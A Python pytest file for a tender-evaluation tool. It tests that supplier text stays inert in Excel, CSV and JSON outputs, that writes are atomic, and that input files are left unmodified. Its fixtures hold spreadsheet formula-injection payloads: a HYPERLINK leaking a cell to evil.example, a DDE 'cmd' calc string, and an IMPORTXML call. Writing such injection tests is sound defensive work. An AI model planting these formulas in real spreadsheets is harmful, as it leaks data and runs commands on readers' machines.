"""Output safety: text from a bid is written as text everywhere, outputs are replaced in one
step, and inputs are never modified."""

from __future__ import annotations

import csv
import gc
import hashlib
import json
import os
import shutil
import zipfile
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from tendereval.cli import cli
from tendereval.io.tender import load_tender
from tendereval.report.excel import write_report
from tendereval.report.summaries import write_summaries
from tendereval.scoring.combine import score
from tendereval.scoring.output import render, to_csv, write_json
from tendereval.sheets import save
from tendereval.templates import build_bid_return
from tests.io.builders import QUESTIONS, bid_workbook, score_workbook, write_plan

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "carers-short-breaks"

# Supplier names that a spreadsheet would take for formulas (the OWASP list: = + - @).
NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd")
REASON = "=cmd|' /C calc'!A0 is how {supplier} answered"
DESCRIPTION = '-1+1 apprenticeships, =IMPORTXML("http://evil.example")'
FORMULA_STARTS = ("=", "+", "-", "@")


def _as_text_in_the_bid(path: Path) -> Path:
    """openpyxl writes any string starting with "=" as a formula; a supplier typing such a name
    into Excel (with a leading apostrophe) saves it as text, so mark those cells text."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def hostile_tender(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas") / "tender"
    write_plan(folder)
    for index, name in enumerate(NAMES):
        path = bid_workbook(
            folder / "bids" / f"bid{index}.xlsx",
            name,
            rates={
                (lot, item): 20.0 + index if item == "hours" else 35.0
                for lot in ("L1", "L2")
                for item in ("hours", "visits")
            },
            supply_chain=[
                {"name": name, "role": "subcontractor", "sme": "yes", "vcse": "no", "share": 10}
            ],
            commitments=[{"measure": "SV-APP", "units": 2, "description": DESCRIPTION}],
        )
        _as_text_in_the_bid(path)
    rows = [
        {
            "supplier": name,
            "lot": lot,
            "question": q,
            "score": 3,
            "reason": REASON.format(supplier=name),
        }
        for name in NAMES
        for lot in ("L1", "L2")
        for q in QUESTIONS
    ]
    _as_text_in_the_bid(score_workbook(folder / "scores" / "ann.xlsx", rows))
    return folder


@pytest.fixture(scope="module")
def written(hostile_tender: Path) -> dict[str, Path]:
    tender = load_tender(hostile_tender)
    assert sorted(tender.suppliers["supplier"]) == sorted(NAMES), tender.problems
    result = score(tender, sensitivity=False)
    out = hostile_tender / "out"
    out.mkdir()
    paths = {
        "report": write_report(result, out / "report.xlsx"),
        "public": write_report(result, out / "public.xlsx", public=True),
        "json": out / "results.json",
        "csv": out / "results.csv",
    }
    write_json(result, paths["json"])
    to_csv(result, paths["csv"])
    for index, path in enumerate(write_summaries(result, out / "summaries")):
        paths[f"summary{index}"] = path
    (out / "terminal.txt").write_text(render(result), encoding="utf-8")
    return paths


def _texts(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, data_type) of every cell whose value starts like a formula."""
    wb = load_workbook(path)  # formula mode: a live formula reads back as data_type "f"
    return [
        (ws.title, cell.coordinate, cell.value, cell.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]


def test_bid_text_stays_text_in_the_excel_report(written):
    cells = _texts(written["report"])
    values = {value for _, _, value, _ in cells}
    assert set(NAMES) <= values  # the names are really there, so the check below means something
    assert {REASON.format(supplier=name) for name in NAMES} <= values
    hostile = [c for c in cells if any(name in str(c[2]) for name in NAMES) or "cmd|" in str(c[2])]
    assert {data_type for *_, data_type in hostile} == {"s"}, hostile[:5]


def test_bid_text_stays_text_in_the_public_report_and_summaries(written):
    for key, path in written.items():
        if key == "public" or key.startswith("summary"):
            cells = [c for c in _texts(path) if c[2] in NAMES or "cmd|" in str(c[2])]
            assert cells, f"no bid text found in {path.name}"
            assert {data_type for *_, data_type in cells} == {"s"}, (path.name, cells[:5])
    assert len([k for k in written if k.startswith("summary")]) == len(NAMES)


def test_csv_escapes_leading_formula_characters(written):
    with written["csv"].open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted({row["supplier"] for row in rows}) == sorted(f"'{name}" for name in NAMES)
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), row


def test_json_keeps_the_exact_text(written):
    data = json.loads(written["json"].read_text(encoding="utf-8"))
    ranked = {bid["supplier"] for lot in data["lots"] for bid in lot["ranking"]}
    assert ranked == set(NAMES)


# ---- Atomic writes -------------------------------------------------------------------------


def _fail(*args, **kwargs):
    raise OSError("the disk was pulled out")


@pytest.fixture(scope="module")
def result(hostile_tender: Path):
    return score(load_tender(hostile_tender), sensitivity=False)


def _returning(write):
    def run(result, path: Path) -> Path:
        write(result, path)
        return path

    return run


WRITERS = {
    "report": lambda result, path: write_report(result, path.with_suffix(".xlsx")),
    "summary": lambda result, path: write_summaries(result, path.parent)[0],
    "json": _returning(write_json),
    "csv": _returning(to_csv),
    "template": lambda result, path: build_bid_return(result.plan, path.with_suffix(".xlsx")),
}


@pytest.mark.parametrize("kind", list(WRITERS))
@pytest.mark.parametrize("crash", ["mid-write", "before-rename"])
# A writer's zip left open and closed late by Python printed "Exception ignored … seek of
# closed file" and a traceback on the terminal: an error here.
@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_a_crash_while_writing_leaves_the_previous_file_intact(
    kind, crash, result, tmp_path, monkeypatch
):
    write = WRITERS[kind]
    path = write(result, tmp_path / f"output.{kind}")
    before = path.read_bytes()
    files = sorted(p.name for p in tmp_path.iterdir())
    if crash == "mid-write":
        # Workbooks fail while their zip is being written; JSON and CSV while being flushed.
        monkeypatch.setattr(zipfile.ZipFile, "writestr", _fail)
        monkeypatch.setattr(os, "fsync", _fail)
    else:
        monkeypatch.setattr(os, "replace", _fail)
    with pytest.raises(OSError, match="pulled out"):
        write(result, path)
    monkeypatch.undo()
    gc.collect()  # whatever the failed write left behind is freed now, within this test
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == files  # no temporary file left


def test_sheets_save_is_atomic(tmp_path, monkeypatch):
    """The templates' writer (sheets.save), used by every `tendereval template`."""
    from openpyxl import Workbook

    path = save(Workbook(), tmp_path / "t.xlsx")
    before = path.read_bytes()
    monkeypatch.setattr(os, "replace", _fail)
    with pytest.raises(OSError):
        save(Workbook(), path)
    monkeypatch.undo()
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]


# ---- Inputs are never modified -------------------------------------------------------------


def _fingerprint(folder: Path) -> dict[str, tuple[str, int]]:
    """SHA-256 and modification time of every input file (everything outside reports/)."""
    return {
        str(p.relative_to(folder)): (
            hashlib.sha256(p.read_bytes()).hexdigest(),
            p.stat().st_mtime_ns,
        )
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "reports" not in p.relative_to(folder).parts
    }


def test_inputs_are_never_modified(tmp_path):
    folder = tmp_path / "tender"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns("reports"))
    before = _fingerprint(folder)
    assert any(name.startswith("bids/") for name in before)
    runner = CliRunner()
    for args in (
        ["validate", str(folder)],
        [
            "score",
            str(folder),
            "--no-sensitivity",
            "--json",
            str(tmp_path / "r.json"),
            "--csv",
            str(tmp_path / "r.csv"),
        ],
        ["summaries", str(folder)],
    ):
        outcome = runner.invoke(cli, args)
        assert outcome.exit_code in (0, 1), outcome.output
        assert outcome.exception is None or isinstance(outcome.exception, SystemExit)
    assert _fingerprint(folder) == before
    assert (folder / "reports").is_dir()  # the commands did write their outputs


def test_results_frame_keeps_bid_text_unchanged(result):
    assert sorted(result.results.filter(pl.col("lot") == "L1")["supplier"]) == sorted(NAMES)
